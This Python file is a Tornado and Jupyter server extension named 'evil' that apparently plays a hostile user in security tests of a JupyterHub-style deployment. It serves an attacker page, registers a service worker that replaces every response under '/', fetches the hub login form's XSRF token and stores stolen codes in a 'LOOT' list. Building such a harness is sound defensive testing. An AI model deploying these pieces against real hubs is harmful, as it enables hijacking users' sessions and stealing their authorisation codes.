"""A hostile user's pages, and a store for the data that they send.

They are an extension of a Jupyter server, where they need no login, or the command of an endpoint.
"""

import asyncio
import json
import os
import urllib.request
from pathlib import Path
from urllib.parse import urlsplit

from tornado.web import Application, RequestHandler

HERE = Path(__file__).parent
LOOT = []


class Evil(RequestHandler):
    """Serves ``page``, ``worker.js``, ``xsrf`` (a token for the login form), ``code`` (stores a code) and ``loot``."""

    def get(self, what):
        """Serve one of the pages or values."""
        if what == "page":
            self.finish((HERE / "page.html").read_text())
        elif what == "worker.js":
            self.set_header("Content-Type", "text/javascript")
            self.set_header("Service-Worker-Allowed", "/")
            self.finish("onfetch = event => event.respondWith(new Response('owned by eve'))")
        elif what == "xsrf":
            self.finish(login_token(self.request.headers["User-Agent"]))
        elif what == "code":
            LOOT.append(self.get_argument("code", ""))
            self.finish("thank you")
        else:
            self.finish(json.dumps(LOOT))


def login_token(browser):
    """Return an XSRF token for the hub's login form, for a browser with this user agent."""
    request = urllib.request.Request(f"{os.environ['FARANDOLE_HUB_URL']}/hub/login", headers={"User-Agent": browser})
    if public := os.environ.get("JUPYTERHUB_HOST"):
        request.add_header("Host", urlsplit(public).netloc)
    with urllib.request.urlopen(request) as answer:
        cookies = answer.headers.get_all("Set-Cookie") or []
    return next((each.split(";")[0].removeprefix("_xsrf=") for each in cookies if each.startswith("_xsrf=")), "")


def _jupyter_server_extension_points():
    return [{"module": "evil"}]


def _load_jupyter_server_extension(app):
    app.web_app.add_handlers(".*", [(app.base_url + "evil/(.*)", Evil)])


async def serve():
    """Serve the pages as the command of an endpoint."""
    Application([("/evil/(.*)", Evil)]).listen(int(os.environ["PORT"]), "127.0.0.1")
    await asyncio.Event().wait()


if __name__ == "__main__":
    asyncio.run(serve())
